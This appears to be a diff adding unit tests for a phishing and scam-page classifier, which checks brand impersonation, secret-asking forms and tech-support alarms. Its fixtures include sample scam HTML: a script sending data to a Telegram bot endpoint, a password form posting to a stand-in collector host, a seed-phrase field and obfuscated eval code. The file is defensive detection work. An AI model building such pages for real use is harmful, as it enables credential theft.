@@ -1,0 +1,123 @@
+// The evidence of intent each verdict needs, and the readings of a page it is built from: what a
+// page asks for, whom it claims to be, where it sends what it gets, and what stands out on it.
+import { describe, expect, it } from 'vitest';
+import { classifyPage, readoutOf } from '../../src/classify/classify.ts';
+import { intentFor } from '../../src/classify/intent.ts';
+import { readPage } from '../../src/classify/page-reading.ts';
+import { loadRules } from '../../src/classify/rules.ts';
+import { snapshotFromHtml } from '../../src/snapshot.ts';
+
+const rules = loadRules();
+const page = (url: string, html: string) => snapshotFromHtml(html, { url, status: 200 });
+const facts = (url: string, html: string) => readoutOf(page(url, html), rules).facts;
+const filler = (n: number) => Array.from({ length: n }, (_, i) => `<p>Paragraph ${i} of an ordinary article about the city council and its budget for parks, schools, libraries and roads this year, as reported by our desk.</p>`).join('');
+
+describe('page reading', () => {
+  const html = `<html><head><title>T</title><link rel="icon" href="/img/paypal-favicon.ico">
+    <style>.hero { background: url('/assets/Office365_logo.png') }</style></head><body>
+    <h1>Your computer is locked</h1><div class="modal-overlay"><p>Call support now</p></div>
+    <div role="alertdialog">Do not close this window</div><button>Scan now</button>
+    <img src="https://cdn.x.test/logos/chase%20bank.svg"><input type="submit" value="Continue">
+    <script>alert('Virus detected! Call 1-888-555-0100'); window.onbeforeunload = () => 'stay';
+    fetch('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1')</script></body></html>`;
+  const r = readPage(html, 'http://x.test/');
+  it('headings, overlays, dialogs, buttons and script alerts are what stands out', () => {
+    expect(r.headings).toEqual(['Your computer is locked']);
+    expect(r.prominent).toEqual(expect.arrayContaining(['Call support now', 'Do not close this window', 'Scan now', 'Continue']));
+    expect(r.scriptMessages).toEqual(['Virus detected! Call 1-888-555-0100']);
+    expect(r.beforeUnload).toBe(true);
+  });
+  it('image, background and icon file names, decoded', () => {
+    expect(r.imageNames).toEqual(expect.arrayContaining(['office365_logo.png', 'chase bank.svg']));
+    expect(r.faviconName).toBe('paypal-favicon.ico');
+  });
+  it('where a script sends data, and code written to hide itself', () => {
+    expect(r.scriptDrops).toEqual(['telegram']);
+    expect(r.obfuscated).toBe(false);
+    expect(readPage(`<script>eval(unescape('%61%6c%65%72%74'))</script>`, 'http://x.test/').obfuscated).toBe(true);
+  });
+  it('hidden elements and empty markup give nothing', () => {
+    expect(readPage('<div style="display:none"><h1>Hidden</h1></div>', 'http://x.test/').headings).toEqual([]);
+    expect(readPage('', 'http://x.test/')).toMatchObject({ headings: [], prominent: [], imageNames: [] });
+  });
+});
+
+describe('page facts', () => {
+  it.each([
+    ['<input type="password" name="pw">', 'password'],
+    ['<input type="text" name="cc_number" autocomplete="cc-number">', 'card'],
+    ['<input type="tel" placeholder="SMS code">', 'one-time-code'],
+    ['<input name="mother_maiden_name">', 'identity'],
+    ['<textarea name="phrase_recovery"></textarea>', 'seed-phrase'],
+    ['<input type="text" placeholder="暗証番号">', 'password'],
+  ])('%s asks for a %s', (field, kind) => {
+    expect(facts('http://x.test/', `<form>${field}</form>`).secretForms[0]?.kinds).toContain(kind);
+  });
+
+  it('a hidden secret field is no question asked', () => {
+    expect(facts('http://x.test/', '<form><input type="password" hidden></form>').secretForms).toEqual([]);
+  });
+
+  it('"Sign in with Google" and app-store badges are ways in, not who the page is', () => {
+    const f = facts(
+      'https://notes.example.com/login',
+      '<title>Log in</title><form><input type="password"></form><a href="/sso">Sign in with Google</a><img alt="Download on the App Store" src="/badges/apple-app-store.svg">',
+    );
+    expect(f.claims.map((c) => c.brand.name)).toEqual([]);
+  });
+
+  it('a page naming its own site, a page wearing another site\'s name in its host, a copy linking home', () => {
+    expect(facts('https://www.acme-tools.com/login', '<title>Acme Tools sign in</title><p>Acme Tools</p>').flags['site-names-itself']).toBe(1);
+    expect(facts('http://online-zenbank-verify.com/', '<title>Zenbank Online Banking</title>').hostWearsName).toBe('zenbank');
+    expect(facts('https://zenbank.com/', '<title>Zenbank Online Banking</title>').hostWearsName).toBeNull();
+    const links = ['help', 'privacy', 'terms', 'about'].map((p) => `<a href="https://www.zenbank.com/${p}">${p}</a>`).join('');
+    expect(facts('http://greenvalley-dental.com/wp/z/', `<title>Zenbank</title>${links}`).borrowedSite).toBe('zenbank.com');
+  });
+
+  it('under a shared suffix the owner\'s label is the site (x.github.io, x.serveirc.com)', () => {
+    expect(facts('https://paypal-login.github.io/', '<title>x</title>').domain).toBe('paypal-login.github.io');
+  });
+});
+
+describe('evidence of intent', () => {
+  const intent = (category: Parameters<typeof intentFor>[0], url: string, html: string) => {
+    const r = readoutOf(page(url, html), rules);
+    return intentFor(category, r.facts, r.hits);
+  };
+  const login = '<form action="/session" method="post"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>';
+
+  it('a brand\'s sign-in on the brand\'s own domain is no phishing', () => {
+    expect(intent('credential-phishing', 'https://www.paypal.com/signin', `<title>Log in to your PayPal account</title>${login}`)).toBeNull();
+  });
+  it('the same sign-in on another host is', () => {
+    expect(intent('credential-phishing', 'http://greenvalley-dental.com/wp-includes/pp/', `<title>Log in to your PayPal account</title>${login}`)).toMatch(/names "PayPal" in title/);
+  });
+  it('a site\'s own sign-in, naming itself, is no phishing even when it names other brands', () => {
+    const html = `<title>Sign in · Pinecone Notes</title><h1>Pinecone Notes</h1>${login}<a href="/g">Continue with Google</a><p>Works with Microsoft Outlook and Dropbox.</p>`;
+    expect(intent('credential-phishing', 'https://pinecone-notes.com/login', html)).toBeNull();
+    expect(classifyPage(page('https://pinecone-notes.com/login', html), rules).category).not.toBe('credential-phishing');
+  });
+  it('a secret posted to another site, by a page that does not name itself', () => {
+    const html = '<title>Sign in</title><form action="https://collector.example.net/x.php" method="post"><input type="password" name="p"></form>';
+    expect(intent('credential-phishing', 'http://bakery.example.org/wp/', html)).toMatch(/sends it to collector\.example\.net/);
+  });
+  it('a wallet recovery phrase is asked by no genuine page', () => {
+    expect(intent('credential-phishing', 'http://x.example.org/', '<form><textarea name="mnemonic"></textarea></form>')).toMatch(/recovery phrase/);
+  });
+  it('a newsletter box beside an article is no harvest; an address form that is the page is', () => {
+    const box = '<form><input type="email" name="email" placeholder="Your email"><button>Subscribe</button></form>';
+    expect(intent('email-harvest', 'https://news.example.com/a', `<title>City budget</title>${filler(12)}${box}`)).toBeNull();
+    expect(intent('email-harvest', 'http://free-guide.example.net/', `<title>Get instant access</title><h1>Free report</h1>${box}`)).toMatch(/address form/);
+  });
+  it('prize words in an article are no prize scam; in the headline of a bare page they are', () => {
+    const article = `<title>Lottery winner named</title><h1>Local lottery winner named</h1>${filler(12)}<p>You won't believe: you have won nothing, said the winner.</p>`;
+    expect(intent('prize-scam', 'https://news.example.com/lotto', article)).toBeNull();
+    expect(intent('prize-scam', 'http://lucky-day.example.net/', '<h1>Congratulations! You have been selected</h1><button>Claim your prize</button>')).toMatch(/prize-scam\.won/);
+  });
+  it('tech support needs a number to call; a scan result without one is a fake scan', () => {
+    const alarm = '<h1>Your computer is locked</h1><h2>Do not close this window</h2>';
+    expect(intent('tech-support-scam', 'http://win-alert.example.net/', `${alarm}<p>Call Microsoft Support 1-888-555-0100</p>`)).toMatch(/phone number/);
+    expect(intent('tech-support-scam', 'http://win-alert.example.net/', alarm)).toBeNull();
+    expect(intent('fake-scan', 'http://scan.example.net/', '<h1>3 viruses detected</h1><button>Clean now</button>')).toMatch(/fake-scan/);
+  });
+});
